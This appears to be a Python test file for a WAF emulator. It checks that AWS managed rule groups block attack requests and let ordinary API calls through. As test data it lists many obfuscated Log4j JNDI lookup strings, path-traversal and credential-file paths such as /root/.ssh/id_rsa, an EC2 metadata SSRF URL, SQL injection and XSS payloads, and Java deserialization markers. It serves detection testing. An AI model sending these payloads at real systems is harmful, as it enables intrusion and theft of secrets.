"""Managed groups against AWS's published examples, and against ordinary calls."""

import pytest

from portcullis.gateway.waf.managed import GROUPS
from tests.portcullis.gateway.waf.written import COMMON, INPUTS, SQL, group_rule, managed

AGENT = (("User-Agent", "curl/8"),)


@pytest.mark.parametrize(
    ("group", "changes", "expected"),
    [
        (COMMON, {"headers": ()}, "NoUserAgent_HEADER"),
        (COMMON, {"headers": (("User-Agent", "sqlmap/1.7"),)}, "UserAgent_BadBots_HEADER"),
        (COMMON, {"target": "/?q=" + "x" * 2047}, "SizeRestrictions_QUERYSTRING"),
        (COMMON, {"body": b"x" * 8193}, "SizeRestrictions_BODY"),
        (COMMON, {"target": "/" + "x" * 1024}, "SizeRestrictions_URIPATH"),
        (COMMON, {"target": "/?u=http://169.254.169.254/"}, "EC2MetaDataSSRF_QUERYARGUMENTS"),
        (COMMON, {"target": "/a/%2e%2e/b"}, "GenericLFI_URIPATH"),
        (COMMON, {"target": "/?f=../../etc/passwd"}, "GenericLFI_QUERYARGUMENTS"),
        (COMMON, {"target": "/db.sql"}, "RestrictedExtensions_URIPATH"),
        (COMMON, {"body": b"see ftp://192.0.2.1/x"}, "GenericRFI_BODY"),
        (COMMON, {"body": b"<script>alert(1)</script>"}, "CrossSiteScripting_BODY"),
        (INPUTS, {"headers": (*AGENT, ("X", "${jndi:ldap://x}"))}, "Log4JRCE_HEADER"),
        (INPUTS, {"target": "/?x=${${lower:j}ndi:x}"}, "Log4JRCE_QUERYSTRING"),
        (INPUTS, {"method": "PROPFIND"}, "PROPFIND_METHOD"),
        (INPUTS, {"target": "/.git/config"}, "ExploitablePaths_URIPATH"),
        (SQL, {"target": "/?id=1%27%20or%20%271%27=%271"}, "SQLi_QUERYARGUMENTS"),
        (SQL, {"body": b"x' union all select 1"}, "SQLi_BODY"),
        ("AWSManagedRulesLinuxRuleSet", {"target": "/proc/version"}, "LFI_URIPATH"),
        (
            "AWSManagedRulesUnixRuleSet",
            {"target": "/?x=echo%20$HOME"},
            "UNIXShellCommandsVariables_QUERYARGUMENTS",
        ),
        (
            "AWSManagedRulesAdminProtectionRuleSet",
            {"target": "/sqlmanager"},
            "AdminProtection_URIPATH",
        ),
    ],
)
def test_a_managed_group_finds_aws_published_examples(
    web_acl, request_of, group, changes, expected
):
    acl = web_acl(group_rule("managed", 1, managed(group)))
    verdict = acl.evaluate(request_of(**{"headers": AGENT, **changes}))
    assert (verdict.allowed, verdict.rule) == (False, f"managed/{expected}")
    assert verdict.labels[-1].startswith("awswaf:managed:aws:")


@pytest.mark.parametrize(
    "changes",
    [
        {"target": "/"},
        {"target": "/pets?type=dog&page=2"},
        {"target": "/pets/42"},
        {"target": "/.well-known/jwks.json"},
        {"method": "POST", "body": b'{"type": "O\'Brien\'s dog & cat", "price": 12.5}'},
    ],
)
def test_ordinary_calls_pass_every_managed_group(web_acl, request_of, changes):
    acl = web_acl(*(group_rule(g, n, managed(g)) for n, g in enumerate(GROUPS)))
    verdict = acl.evaluate(request_of(**{"headers": AGENT, **changes}))
    assert (verdict.allowed, verdict.rule) == (True, "Default_Action")


@pytest.mark.parametrize("group", list(GROUPS.values()), ids=list(GROUPS))
def test_a_rule_matches_something_or_says_why_not(group):
    assert all((rule.statement is None) is bool(rule.gap) for rule in group.rules)
    names = [rule.name for rule in group.rules]
    assert len(set(names)) == len(names)


LOOKUPS = [
    "${jndi:ldap://x/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
    "${${lower:j}ndi:ldap://x/a}",
    "${jndi:dns://x}",
    "${jndi:rmi://x/a}",
    "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//x/a}",
    "${${lower:jndi}:${lower:rmi}://x}",
    "${j${lower:n}di:ldap://x}",
    "${j${::-n}di:ldap://x}",
    "${${upper:j}ndi:ldap://x}",
    "${${sys:x:-j}ndi:ldap://x}",
    "${jndi${nagli:-:}ldap:${::-/}/x}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
    "${${::-${::-$${::-j}}}ndi:ldap://x}",
    "%24%7Bjndi:ldap://x%7D",
    "%2524%257Bjndi:ldap://x%257D",
    "$\\u007bjndi:ldap://x}",
    "$\\u007B\\u006Andi:ldap://x}",
    "$&lbrace;jndi:ldap://x}",
    "$&LCUB;jndi:ldap://x}",
    "&#x24;&#000000000000000000123;jndi:ldap://x}",
    "%24%5Cu007Bjndi:ldap://x%7D",
    "\\u002524%7Bjndi:ldap://x%7D",
    "${jndi:${lower:l}${lower:d}a${lower:p}://x}",
    "${jNdI:LDAPS://x}",
    "${${a:b:c:-j}ndi:ldap://x}",
]


@pytest.mark.parametrize("text", LOOKUPS)
def test_a_lookup_of_log4j_is_found_however_it_is_nested(web_acl, request_of, text):
    acl = web_acl(group_rule("managed", 1, managed(INPUTS)))
    for changes in ({"headers": (*AGENT, ("X", text))}, {"body": text.encode()}):
        verdict = acl.evaluate(request_of(**{"headers": AGENT, **changes}))
        assert verdict.rule.startswith("managed/Log4JRCE_")


@pytest.mark.parametrize("text", ["${name}", "${user.name:-Bob}", "$ {jndi}", "a ${b} and ${c}"])
def test_a_plain_reference_is_no_lookup(web_acl, request_of, text):
    acl = web_acl(group_rule("managed", 1, managed(INPUTS)))
    assert acl.evaluate(request_of(headers=AGENT, body=text.encode())).allowed


PATHS = [
    "../../etc/passwd",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "..;/admin",
    "/root/.ssh/id_rsa",
    "/proc/self/environ",
]


@pytest.mark.parametrize("text", PATHS)
def test_a_path_to_a_file_of_the_system_is_found(web_acl, request_of, text):
    acl = web_acl(group_rule("managed", 1, managed(COMMON)))
    assert not acl.evaluate(request_of(headers=AGENT, body=text.encode())).allowed


@pytest.mark.parametrize(
    "text", ["foo../1234", "see foo.../1234", "and so on.. / end", "/etc", "/process/1/"]
)
def test_a_path_of_another_kind_passes(web_acl, request_of, text):
    acl = web_acl(group_rule("managed", 1, managed(COMMON)))
    assert acl.evaluate(request_of(headers=AGENT, body=text.encode())).allowed


@pytest.mark.parametrize("body", [b"\xac\xed\x00\x05sr", b'{"a": "rO0ABXNyABFqYXZhLnV0aWw"}'])
def test_a_serialized_object_of_java_is_found(web_acl, request_of, body):
    acl = web_acl(group_rule("managed", 1, managed(INPUTS)))
    verdict = acl.evaluate(request_of(headers=AGENT, body=body))
    assert verdict.rule == "managed/JavaDeserializationRCE_BODY"
